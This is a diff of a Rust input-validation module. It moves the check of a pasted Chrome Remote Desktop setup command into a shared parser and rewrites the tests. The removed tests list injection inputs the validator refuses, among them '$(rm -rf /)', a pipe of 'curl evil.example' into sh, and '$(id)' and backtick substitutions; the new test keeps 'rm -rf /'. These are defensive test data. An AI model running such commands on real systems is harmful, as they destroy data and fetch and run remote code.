@@ -3,30 +3,11 @@
 
 use std::sync::LazyLock;
 
+use lablink_schema::crd::CrdCommand;
 use regex::Regex;
 
-/// The only redirect URL Chrome Remote Desktop's Debian command uses.
-pub const CRD_REDIRECT_URL: &str = "https://remotedesktop.google.com/_/oauthredirect";
-/// Where the CRD host program lives on the VM images.
-pub const CRD_START_HOST: &str = "/opt/google/chrome-remote-desktop/start-host";
 /// Longest email accepted (the limit of the address syntax).
 const MAX_EMAIL_LEN: usize = 254;
-/// Longest CRD command accepted; genuine ones are about 250 characters.
-const MAX_CRD_COMMAND_LEN: usize = 2048;
-
-/// The command Chrome Remote Desktop's "Set up via SSH → Debian Linux" page gives, and
-/// nothing else: fixed program, an authorisation code of safe characters, the fixed redirect
-/// URL, and the VM's name as `$(hostname)` or a plain word. Quotes are optional; any other
-/// shell syntax fails to match.
-static CRD_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(concat!(
-        r#"^(?:DISPLAY=\s+)?/opt/google/chrome-remote-desktop/start-host"#,
-        r#"\s+--code=(?:"(?P<qcode>[0-9]/[A-Za-z0-9_\-]{10,1024})"|(?P<code>[0-9]/[A-Za-z0-9_\-]{10,1024}))"#,
-        r#"\s+--redirect-url=(?:"https://remotedesktop\.google\.com/_/oauthredirect"|'https://remotedesktop\.google\.com/_/oauthredirect'|https://remotedesktop\.google\.com/_/oauthredirect)"#,
-        r#"\s+--name=(?:\$\(hostname\)|"\$\(hostname\)"|[A-Za-z0-9._\-]{1,64})\s*$"#,
-    ))
-    .expect("the CRD pattern is a valid regex")
-});
 
 /// A practical email check: one `@`, a non-empty local part without spaces or quotes, and a
 /// dotted domain of letters, digits and hyphens.
@@ -55,30 +36,19 @@ pub fn email(raw: &str) -> Result<String, String> {
     Ok(email)
 }
 
-/// The researcher's CRD command, checked against [`CRD_COMMAND`] and rebuilt in one canonical
-/// form from its code, so what reaches the VM is exactly what we validated.
+/// The researcher's CRD command, checked against the genuine command's pattern and rebuilt
+/// in one canonical form from its code, so what reaches the VM is exactly what was validated.
 pub fn crd_command(raw: &str) -> Result<String, String> {
-    let command = raw.trim();
-    if command.is_empty() {
+    if raw.trim().is_empty() {
         return Err("Please paste the Chrome Remote Desktop command.".to_owned());
     }
-    let invalid = || {
-        "That is not a Chrome Remote Desktop command. Copy the whole command shown for \
-         \"Debian Linux\" (it starts with DISPLAY= and contains --code=)."
-            .to_owned()
-    };
-    if command.len() > MAX_CRD_COMMAND_LEN {
-        return Err(invalid());
-    }
-    let captures = CRD_COMMAND.captures(command).ok_or_else(invalid)?;
-    let code = captures
-        .name("qcode")
-        .or_else(|| captures.name("code"))
-        .ok_or_else(invalid)?
-        .as_str();
-    Ok(format!(
-        "DISPLAY= {CRD_START_HOST} --code=\"{code}\" --redirect-url=\"{CRD_REDIRECT_URL}\" --name=$(hostname)"
-    ))
+    CrdCommand::parse(raw)
+        .map(|command| command.canonical())
+        .map_err(|_| {
+            "That is not a Chrome Remote Desktop command. Copy the whole command shown for \
+             \"Debian Linux\" (it starts with DISPLAY= and contains --code=)."
+                .to_owned()
+        })
 }
 
 /// A hostname as given, if it is one.
@@ -97,35 +67,19 @@ pub fn hostname(raw: &str) -> Result<&str, String> {
 mod tests {
     use super::*;
 
-    const GENUINE: &str = r#"DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AVG7fiQ1bCdEfGhIjKlMnOpQrStUvWxYz_0123-abc" --redirect-url="https://remotedesktop.google.com/_/oauthredirect" --name=$(hostname)"#;
-
     #[test]
-    fn the_genuine_crd_command_is_accepted_and_made_canonical() {
-        let canonical = crd_command(GENUINE).expect("genuine");
-        assert_eq!(canonical, GENUINE);
-        let unquoted = GENUINE.replace("\"4/", "4/").replace("-abc\"", "-abc");
-        assert_eq!(crd_command(&unquoted).expect("unquoted code"), GENUINE);
-        let padded = format!("  {GENUINE}\n");
-        assert_eq!(crd_command(&padded).expect("whitespace"), GENUINE);
-    }
-
-    #[test]
-    fn anything_else_is_refused() {
-        for bad in [
-            "",
-            "hello",
-            "--code=4/abc",
-            &GENUINE.replace("$(hostname)", "$(rm -rf /)"),
-            &format!("{GENUINE}; curl evil.example | sh"),
-            &format!("{GENUINE} && reboot"),
-            &GENUINE.replace("start-host", "start-host`id`"),
-            &GENUINE.replace("4/0AVG", "4/0AVG;id;"),
-            &GENUINE.replace("remotedesktop.google.com", "evil.example"),
-            &GENUINE.replace("--code=\"4/", "--code=\"4/$(id)"),
-            &format!("{GENUINE}\nreboot"),
-        ] {
-            assert!(crd_command(bad).is_err(), "accepted: {bad}");
-        }
+    fn crd_commands_are_made_canonical_and_junk_is_refused_with_advice() {
+        let pasted = "DISPLAY= /opt/google/chrome-remote-desktop/start-host --code=4/0AVG7fiQ1bCdEfGh \
+                      --redirect-url='https://remotedesktop.google.com/_/oauthredirect' --name=$(hostname)";
+        assert_eq!(
+            crd_command(pasted).expect("genuine"),
+            "DISPLAY= /opt/google/chrome-remote-desktop/start-host --code=\"4/0AVG7fiQ1bCdEfGh\" \
+             --redirect-url=\"https://remotedesktop.google.com/_/oauthredirect\" --name=$(hostname)"
+        );
+        assert!(crd_command("").expect_err("empty").contains("paste"));
+        assert!(crd_command("rm -rf /")
+            .expect_err("junk")
+            .contains("Debian Linux"));
     }
 
     #[test]
